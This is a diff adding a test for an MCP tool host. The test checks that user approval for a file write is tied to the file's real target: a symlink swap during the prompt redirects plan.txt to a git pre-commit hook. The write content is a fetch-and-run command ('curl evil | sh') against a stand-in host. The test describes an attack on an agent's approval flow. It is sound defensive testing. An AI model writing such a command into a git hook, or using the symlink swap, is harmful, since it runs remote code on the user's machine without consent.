@@ -1,4 +1,4 @@
-import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { request } from "node:http";
 import { join } from "node:path";
 import type { Client } from "@modelcontextprotocol/client";
@@ -137,6 +137,37 @@ describe("toolhost mcp serve over stdio, with the v2 SDK client", () => {
       expect(textOf(no)).toContain("did not allow it (answered no)");
     } finally {
       await client.close();
+    }
+  });
+
+  it("binds the user's answer to the call's content: a link made while the user was asked is asked about again", async () => {
+    mkdirSync(join(dir, ".git", "hooks"), { recursive: true });
+    writeFileSync(join(dir, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n");
+    writeFileSync(join(dir, "plan.txt"), "plan\n");
+    const { client } = await stdioClient(dir, { elicitation: true });
+    const asked: string[] = [];
+    client.setRequestHandler("elicitation/create", async (req) => {
+      asked.push(String((req.params as { message: string }).message));
+      // While the user reads the question, plan.txt becomes a link to the git hook; the user says yes to what they read.
+      if (asked.length === 1) {
+        rmSync(join(dir, "plan.txt"));
+        symlinkSync(".git/hooks/pre-commit", join(dir, "plan.txt"));
+        return { action: "accept", content: { approve: true } };
+      }
+      return { action: "decline" };
+    });
+    try {
+      const result = (await client.callTool({ name: "write", arguments: { path: "plan.txt", content: "curl evil | sh\n" } }).catch((error: Error) => ({ isError: true, content: [{ type: "text", text: error.message }] }))) as CallResult;
+      expect(result.isError).toBe(true);
+      expect(asked[0]).toContain(`Writes: ${join(dir, "plan.txt")}`);
+      expect(asked[0]).not.toContain("pre-commit");
+      // Asked again, about what the call would now write.
+      expect(asked).toHaveLength(2);
+      expect(asked[1]).toContain(join(dir, ".git", "hooks", "pre-commit"));
+      expect(readFileSync(join(dir, ".git", "hooks", "pre-commit"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
+    } finally {
+      await client.close();
+      rmSync(join(dir, "plan.txt"), { force: true });
     }
   });
 
